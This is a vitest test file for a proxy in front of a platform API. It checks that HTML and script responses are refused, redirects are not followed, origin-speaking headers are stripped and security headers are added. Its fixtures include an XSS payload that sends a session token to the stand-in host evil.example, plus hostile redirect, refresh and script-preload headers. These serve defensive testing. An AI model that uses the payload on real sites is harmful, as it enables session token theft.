import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { type IncomingHttpHeaders, type IncomingMessage, request as send } from 'node:http'
import { connect } from 'node:net'
import { describe, expect, it } from 'vitest'
import type { Service } from '../../admin/service/run/startService.ts'
import { startTestService } from '../../admin/service/testing/startTestService.ts'
import { startForeigner } from '../../admin/service/testing/startForeigner.ts'

interface Given {
  readonly status?: number
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

const ATTACK = '<script>fetch("//evil.example/?"+sessionStorage["playbill.token"])</script>'
const SEAL = {
  'content-security-policy': "default-src 'none'; sandbox",
  'cross-origin-resource-policy': 'same-origin',
  'x-content-type-options': 'nosniff',
}

/**
 * The same platform, once behind the proxy and once as the demonstration: the rules under `/api` are the same for both.
 */
const ways: readonly (readonly [string, (given: Given) => Promise<Service>])[] = [
  [
    'passed on',
    async ({ status = 200, headers = {}, body = '' }) => {
      const url = await startForeigner(
        (request, response) => void request.resume().on('end', () => response.writeHead(status, headers).end(body)),
      )
      return startTestService({ environment: { PLATFORM_URL: url } })
    },
  ],
  [
    'of the demonstration',
    ({ status = 200, headers = {}, body = '' }) =>
      startTestService({
        demonstration: () => async () => new Response(body === '' ? null : body, { status, headers }),
      }),
  ],
]

const ask = (service: Service, init: RequestInit = {}): Promise<Response> =>
  fetch(`${service.publicUrl}/api/balance`, { redirect: 'manual', ...init })

describe.each(ways)('an answer under /api %s', (_, start) => {
  it.each([
    'text/html',
    'text/html; charset=utf-8',
    'TEXT/HTML',
    'application/xhtml+xml',
    'image/svg+xml',
    'text/xml',
    'text/javascript',
    'text/plain',
    'application/octet-stream',
    '',
  ])('of the type "%s" is not passed on', async (type) => {
    const service = await start({ headers: { 'content-type': type }, body: ATTACK })
    const answer = await ask(service)
    expect(answer.status).toBe(502)
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(await answer.text()).not.toContain('script')
    expect(Object.fromEntries(answer.headers)).toMatchObject(SEAL)
  })

  it('keeps the status of a failure, and is not an envelope that looks like a refusal', async () => {
    const answer = await ask(await start({ status: 403, headers: { 'content-type': 'text/html' }, body: ATTACK }))
    expect(answer.status).toBe(403)
    expect(await answer.json()).toEqual({
      message: 'The platform answered with something that is neither JSON nor a picture.',
      data: null,
    })
  })

  it('does not redirect', async () => {
    const answer = await ask(
      await start({
        status: 302,
        headers: { location: 'https://evil.example/', 'content-type': 'application/json' },
        body: '{}',
      }),
    )
    expect([answer.status, answer.headers.get('location')]).toEqual([502, null])
    expect(await answer.json()).toEqual({
      message: 'The platform answered with a redirect, which is not followed.',
      data: null,
    })
  })

  it.each(['application/json', 'application/json; charset=utf-8', 'image/png', 'image/webp'])(
    'of the type "%s" is passed on unchanged, sealed',
    async (type) => {
      const answer = await ask(await start({ headers: { 'content-type': type }, body: ATTACK }))
      expect([answer.status, answer.headers.get('content-type'), await answer.text()]).toEqual([200, type, ATTACK])
      expect(Object.fromEntries(answer.headers)).toMatchObject({ ...SEAL, 'cache-control': 'no-store' })
    },
  )

  it('drops headers that would speak for this origin', async () => {
    const headers = {
      'content-type': 'application/json',
      'content-security-policy': "default-src * 'unsafe-inline'",
      'access-control-allow-origin': '*',
      'clear-site-data': '"*"',
      'service-worker-allowed': '/',
      refresh: '0;url=https://evil.example',
      'x-not-sent': 'true',
      link: '<https://evil.example/x.js>; rel=preload; as=script',
      'set-cookie': 'tracker=1',
      'strict-transport-security': 'max-age=0',
      'x-content-type-options': 'sniff',
      'x-platform-time': '2026-03-02T05:00:00Z',
      'retry-after': '9',
    }
    const answer = await ask(await start({ headers, body: '{}' }))
    const allowed = [
      'cache-control',
      'connection',
      'content-length',
      'content-type',
      'date',
      'keep-alive',
      'retry-after',
      'transfer-encoding',
      'x-demonstration',
      'x-platform-time',
    ]
    expect([...answer.headers.keys()].filter((name) => !allowed.includes(name)).toSorted()).toEqual(
      Object.keys(SEAL).toSorted(),
    )
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      ...SEAL,
      'retry-after': '9',
      'x-platform-time': '2026-03-02T05:00:00Z',
    })
  })

  it('is sealed however the call goes wrong', async () => {
    const service = await start({ headers: { 'content-type': 'application/json' }, body: '{}' })
    const wrong: readonly (readonly [string, RequestInit])[] = [
      ['/api/x', { method: 'OPTIONS' }],
      ['/api/x', { method: 'PUT', body: '{}', headers: { 'content-type': 'application/json' } }],
      ['/api/x', { method: 'HEAD' }],
      ['/api/x', { method: 'POST', body: new Uint8Array(6 * 1024 * 1024) }],
      ['/api', {}],
      ['/%61pi/x', {}],
      ['/api/%2e%2e%2fx', {}],
    ]
    for (const [path, init] of wrong) {
      const answer = await fetch(`${service.publicUrl}${path}`, init)
      expect([path, init.method, Object.fromEntries(answer.headers)]).toMatchObject([path, init.method, SEAL])
    }
  })
})

describe('an answer to a call that the platform has got nothing of', () => {
  const notSent = (answer: Response) => [answer.status, answer.headers.get('x-not-sent')]

  it.each(ways)('says so, when it would be %s', async (_, start) => {
    const service = await start({ headers: { 'content-type': 'application/json' }, body: '{}' })
    const post = (path: string, bytes: number) =>
      fetch(`${service.publicUrl}${path}`, { method: 'POST', body: new Uint8Array(bytes) })
    expect(notSent(await post('/api/withdraw', 64 * 1024 + 1))).toEqual([413, 'true'])
    expect(notSent(await post('/api/uploadimg', 5 * 1024 * 1024 + 4097))).toEqual([413, 'true'])
    expect(notSent(await fetch(`${service.publicUrl}/api/withdraw`, { method: 'PUT' }))).toEqual([405, 'true'])
    expect(notSent(await post('/api/withdraw', 64 * 1024))).toEqual([200, null])
    expect(notSent(await post('/api/uploadimg', 5 * 1024 * 1024 + 4096))).toEqual([200, null])
  })

  it('says so when the platform cannot be reached, and not when it breaks off', async () => {
    const gone = await startTestService({ environment: { PLATFORM_URL: 'http://127.0.0.1:9' } })
    expect(notSent(await ask(gone, { method: 'POST', body: '{}' }))).toEqual([502, 'true'])
    const url = await startForeigner((request) => void request.socket.destroy())
    const breaking = await startTestService({ environment: { PLATFORM_URL: url } })
    expect(notSent(await ask(breaking, { method: 'POST', body: '{}' }))).toEqual([502, null])
  })

  it('says so during a stop, while calls that were sent are finished', async () => {
    const asked = Promise.withResolvers<() => void>()
    const url = await startForeigner((request, response) => {
      request.resume()
      asked.resolve(() => void response.setHeader('content-type', 'application/json').end('{"code":200}'))
    })
    const service = await startTestService({ environment: { PLATFORM_URL: url } })
    const { port, hostname } = new URL(service.publicUrl)
    const socket = connect(Number(port), hostname).setEncoding('utf8')
    const call = 'POST /api/withdraw HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n'
    socket.write(call)
    const finish = await asked.promise
    const stopped = service.stop()
    // On a connection that was open before: no other one is taken any more.
    socket.write(call)
    let said = ''
    socket.on('data', (chunk: string) => (said += chunk))
    finish()
    await once(socket, 'close')
    const [first = '', second = ''] = said.split(/(?=HTTP\/1\.1 503)/)
    expect(first).toMatch(/^HTTP\/1\.1 200/)
    expect(first).not.toContain('x-not-sent')
    expect(second).toContain('x-not-sent: true')
    await stopped
  })
})

describe('a call that is passed on', () => {
  it('gets to the platform bit for bit, whatever it is and however it is sent', async () => {
    const got: { readonly type: string | undefined; readonly body: Buffer }[] = []
    const url = await startForeigner((request, response) => {
      const chunks: Buffer[] = []
      request.on('data', (chunk: Buffer) => chunks.push(chunk))
      request.on('end', () => {
        got.push({ type: request.headers['content-type'], body: Buffer.concat(chunks) })
        response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
      })
    })
    const service = await startTestService({ environment: { PLATFORM_URL: url } })
    const boundary = 'aBc"; charset=utf-8'
    const picture = Buffer.concat([Buffer.from(`--x\r\n\r\n`), randomBytes(3_000_000), Buffer.from('\r\n--x--')])
    for (const { path, type, body } of [
      { path: '/api/uploadimg', type: `multipart/form-data; boundary="${boundary}"`, body: picture },
      { path: '/api/withdraw', type: 'application/json', body: Buffer.from(' {"a" : 1e2,"a":"\\ud800" }\n') },
      { path: '/api/withdraw', type: 'Application/JSON; charset=EUC-KR', body: randomBytes(1000) },
      { path: '/api/withdraw', type: undefined, body: Buffer.from('not typed') },
    ])
      for (const length of [{ 'content-length': body.length }, { 'transfer-encoding': 'chunked' }]) {
        const asked = send(`${service.publicUrl}${path}`, {
          method: 'POST',
          agent: false,
          headers: { ...length, ...(type !== undefined && { 'content-type': type }) },
        })
        asked.end(body)
        const [answer] = (await once(asked, 'response')) as [IncomingMessage]
        await once(answer.resume(), 'end')
        const { type: as, body: bytes } = got.at(-1) ?? {}
        expect([path, answer.statusCode, as, bytes?.equals(body)]).toEqual([path, 200, type, true])
      }
    expect(got).toHaveLength(8)
  })

  it('sends the platform only what the call needs, and nothing that looks like a header of a proxy', async () => {
    const seen: IncomingHttpHeaders[] = []
    const url = await startForeigner((request, response) => {
      seen.push(request.headers)
      request.resume().on('end', () => response.writeHead(200, { 'content-type': 'application/json' }).end('{}'))
    })
    const service = await startTestService({ environment: { PLATFORM_URL: url } })
    const told = {
      authorization: 'Bearer t',
      token: 't',
      lang: 'kor',
      'idempotency-key': 'k',
      'content-type': 'application/json',
      accept: 'application/json',
    }
    const untold = Object.fromEntries(
      [
        'cookie',
        'forwarded',
        'true-client-ip',
        'cf-connecting-ip',
        'x-real-ip',
        'x-client-ip',
        'x-forwarded-for',
        'x-request-id',
        'x-forwarded-host',
        'x-forwarded-proto',
        'x-http-method-override',
        'x-original-url',
        'x-rewrite-url',
        'via',
        'origin',
        'referer',
        'user-agent',
        'x-anything',
      ].map((name) => [name, '203.0.113.9']),
    )
    await new Promise((resolve, reject) => {
      send(
        `${service.publicUrl}/api/balance`,
        { method: 'POST', agent: false, headers: { ...untold, ...told } },
        (response) => response.resume().on('end', resolve),
      )
        .on('error', reject)
        .end('{}')
    })
    const [
      {
        host,
        connection: _,
        'content-length': length,
        'transfer-encoding': chunked,
        'x-forwarded-for': from,
        'x-request-id': id,
        ...rest
      } = {},
    ] = seen
    expect(rest).toEqual(told)
    expect(id).toMatch(/^[\da-f]{12}$/)
    expect([host, length ?? chunked !== undefined]).toEqual([new URL(url).host, expect.anything()])
    expect(from).toBe('127.0.0.1')
  })
})
